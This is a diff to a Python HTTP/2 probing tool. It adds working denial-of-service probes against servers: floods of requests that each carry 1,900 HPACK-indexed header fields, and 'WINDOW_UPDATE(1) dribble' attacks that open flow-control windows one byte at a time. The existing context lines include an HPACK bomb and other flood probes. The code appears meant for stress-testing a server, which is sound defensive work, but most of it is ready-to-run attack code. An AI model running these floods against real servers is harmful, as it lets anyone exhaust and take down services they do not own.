@@ -42,6 +42,7 @@ class ProbeResult:
     bytes_sent: int
     #: RST_STREAM frames the server sent (its replies, or streams it refused).
     resets_received: int = 0
+    bytes_received: int = 0
 
 
 def _client(settings: dict[int, int] | None = None) -> h2.connection.H2Connection:
@@ -65,6 +66,7 @@ async def _watch(reader: asyncio.StreamReader, result: ProbeResult) -> None:
             if not data:
                 result.closed_by_server = True
                 return
+            result.bytes_received += len(data)
             buffer += data
             while len(buffer) >= 9:
                 frame, length = Frame.parse_frame_header(memoryview(bytes(buffer[:9])))
@@ -88,9 +90,12 @@ async def _flood(
     chunk: bytes | Callable[[], bytes],
     limit: float,
     pause: float = 0.0,
+    received_first: int = 0,
 ) -> ProbeResult:
     """Send ``first``, then ``chunk`` (or what it returns) over and over, ``pause``
-    seconds apart, until the server closes the connection, or for ``limit`` seconds."""
+    seconds apart, until the server closes the connection, or for ``limit`` seconds;
+    the chunks start once the server has sent ``received_first`` bytes (or a third of
+    the time limit has passed)."""
     result = ProbeResult(name, False, None, 0)
     reader, writer = await asyncio.open_connection(host, port)
     watcher = asyncio.create_task(_watch(reader, result))
@@ -99,6 +104,9 @@ async def _flood(
     try:
         writer.write(first)
         result.bytes_sent += len(first)
+        wait_until = loop.time() + limit / 3
+        while result.bytes_received < received_first and not watcher.done() and loop.time() < wait_until:
+            await asyncio.sleep(0.01)
         while not watcher.done() and loop.time() < deadline:
             data = chunk() if callable(chunk) else chunk
             writer.write(data)
@@ -182,6 +190,58 @@ async def hpack_bomb(host: str, port: int, limit: float = 10.0) -> ProbeResult:
     block += b"\xbe" * 8000  # index 62 (the bomb field) again and again
     frame = HeadersFrame(1, block, flags=["END_HEADERS", "END_STREAM"]).serialize()
     return await _flood("HPACK bomb", host, port, first + frame, b"", limit)
+
+
+def heavy_header_block(encoder: hpack.Encoder, host: str, fields: int = 1900) -> bytes:
+    """A GET whose header block adds ``fields`` one-byte fields: HPACK references to the
+    static table's ``accept-encoding: gzip, deflate`` (60 bytes each as decoded, so 1,900
+    stay below twice the default SETTINGS_MAX_HEADER_LIST_SIZE)."""
+    return bytes(encoder.encode(_request("/", host))) + b"\x90" * fields
+
+
+async def header_heavy(host: str, port: int, limit: float = 10.0, per_write: int = 50) -> ProbeResult:
+    """Writes of ``per_write`` requests of 1,900 one-byte fields each: a few bytes on the
+    wire make the server decode and validate thousands of fields."""
+    conn = _client()
+    first = _handshake(conn)
+    stream_id = 1
+
+    def batch() -> bytes:
+        nonlocal stream_id
+        out = bytearray()
+        for _ in range(per_write):
+            block = heavy_header_block(conn.encoder, host)
+            out += HeadersFrame(stream_id, block, flags=["END_HEADERS", "END_STREAM"]).serialize()
+            stream_id += 2
+        return bytes(out)
+
+    return await _flood("header-heavy requests", host, port, first, batch, limit)
+
+
+async def window_dribble(
+    host: str, port: int, path: str = "/api/books", limit: float = 10.0, initial_window: int | None = None
+) -> ProbeResult:
+    """100 large downloads whose stream windows are then opened one byte at a time
+    (WINDOW_UPDATE(1) for each stream, again and again), the connection window wide
+    open: one-byte DATA frames, each costing the server a scheduling round. The dribble
+    starts once the first windows' worth of DATA has arrived, so that every update
+    could buy a frame."""
+    conn = _client({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: initial_window} if initial_window is not None else None)
+    conn.increment_flow_control_window(2**30)
+    stream_ids = []
+    for _ in range(100):
+        stream_ids.append(conn.get_next_available_stream_id())
+        conn.send_headers(stream_ids[-1], _request(path, host), end_stream=True)
+    first = _handshake(conn)
+    updates = b"".join(WindowUpdateFrame(stream_id, 1).serialize() for stream_id in stream_ids) * 10
+    name = "WINDOW_UPDATE(1) dribble" if initial_window is None else f"WINDOW_UPDATE(1) dribble, initial window {initial_window}"
+    window = 65535 if initial_window is None else initial_window
+    return await _flood(name, host, port, first, updates, limit, received_first=len(stream_ids) * window * 9 // 10)
+
+
+async def tiny_window_dribble(host: str, port: int, limit: float = 10.0) -> ProbeResult:
+    """The dribble with SETTINGS_INITIAL_WINDOW_SIZE 1: tiny windows look legitimate."""
+    return await window_dribble(host, port, limit=limit, initial_window=1)
 
 
 async def slow_read(host: str, port: int, path: str = "/", limit: float = 10.0) -> ProbeResult:
@@ -303,6 +363,9 @@ PROBES = (
     window_overflow_reset,
     closed_stream_data,
     hpack_amplification,
+    header_heavy,
+    window_dribble,
+    tiny_window_dribble,
 )
 
 
